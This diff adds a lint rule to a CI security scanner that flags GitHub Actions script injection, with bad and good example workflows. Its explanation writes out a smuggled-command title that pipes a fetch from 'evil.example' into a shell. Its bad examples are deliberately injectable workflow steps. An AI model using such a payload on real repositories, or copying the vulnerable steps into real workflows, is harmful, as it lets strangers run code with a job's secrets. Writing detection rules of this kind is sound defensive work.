@@ -1,0 +1,87 @@
+import type { Severity } from '../../model/finding.ts';
+import type { Workflow } from '../../model/workflow.ts';
+import { bad, defineRule, good } from '../rule.ts';
+import { envOf, stepLabel, strangerTrigger, triggerOf, usersOf } from '../shared/workflow.ts';
+import { steps, workflow } from '../shared/workflow-example.ts';
+import { scriptsOf } from '../shared/workflow-places.ts';
+import { taintOf } from '../shared/workflow-taint.ts';
+
+export default defineRule({
+  id: 'script-injection',
+  area: 'ci',
+  severity: 'critical',
+  aliases: [
+    'checkov:CKV_GHA_2',
+    'kics:run_block_injection',
+    'kics:script_block_injection',
+    'zizmor:template-injection',
+    'actionlint:untrusted-inputs',
+  ],
+  title: 'A value that a stranger chooses is put into a script',
+  why: 'The value is put in before the shell reads the text: a title like `"; curl evil.example | sh #` runs as a command, with the token and secrets of the job.',
+  fix: 'Set the value as an environment variable of the step, and use `"$TITLE"` in the script.',
+  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
+  on: 'expression',
+  *check(expression, { workflow, job, step, action, project }) {
+    if (
+      step === undefined ||
+      !scriptsOf(step).some(({ span }) => span.start === expression.within.span.start)
+    )
+      return;
+    const around = { workflow, job, env: envOf(workflow, job, step) };
+    const taint = taintOf(expression.tree, around);
+    if (taint === undefined) return;
+    yield {
+      at: expression.span,
+      message: `${taint}, which a stranger chooses, is put into the script of ${stepLabel(step)}`,
+      severity: severityIn(action === undefined ? [workflow] : usersOf(project, action)),
+    };
+  },
+  examples: [
+    bad(
+      steps(
+        `
+      - run: echo "Thanks for \${{ github.event.issue.title }}"
+      - uses: actions/github-script@v7
+        with:
+          script: core.info('\${{ github.event.comment.body }}')
+    `,
+        'on: issue_comment',
+      ),
+      ['.github/workflows/ci.yml:6:31', '.github/workflows/ci.yml:9:30'],
+    ),
+    bad(
+      workflow(`
+      on: pull_request_target
+      env:
+        BRANCH: \${{ github.head_ref }}
+      jobs:
+        build:
+          runs-on: ubuntu-24.04
+          steps:
+            - run: git checkout \${{ env.BRANCH }}
+    `),
+      '.github/workflows/ci.yml:8:27',
+    ),
+    good(
+      steps(
+        `
+      - run: echo "Thanks for $TITLE"
+        env:
+          TITLE: \${{ github.event.issue.title }}
+      - run: echo \${{ contains(github.event.comment.body, '/deploy') && 'yes' || 'no' }}
+      - run: echo \${{ github.event.issue.number }}
+    `,
+        'on: issue_comment',
+      ),
+    ),
+  ],
+});
+
+/** On `pull_request` the run of a fork has no secrets, and its author could change the script anyway. */
+function severityIn(workflows: readonly (Workflow | undefined)[]): Severity {
+  if (workflows.some((workflow) => strangerTrigger(workflow) !== undefined)) return 'critical';
+  const events = ['push', 'pull_request_review', 'pull_request_review_comment', 'workflow_call'];
+  const isPrivileged = workflows.some((workflow) => triggerOf(workflow, ...events) !== undefined);
+  return isPrivileged || workflows.length === 0 ? 'high' : 'medium';
+}
